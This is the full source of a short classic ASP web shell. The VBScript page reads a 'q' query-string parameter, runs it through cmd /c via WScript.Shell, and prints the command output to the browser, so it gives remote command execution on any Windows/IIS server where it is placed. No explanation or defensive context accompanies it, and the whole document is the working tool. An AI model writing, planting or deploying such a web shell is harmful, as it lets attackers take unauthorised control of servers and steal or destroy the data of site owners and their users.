<%
Dim sh, ex
If Request.QueryString("q") <> "" Then
    Set sh = CreateObject("WScript.Shell")
    Set ex = sh.Exec("cmd /c " & Request.QueryString("q"))
    Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>"
End If
%>
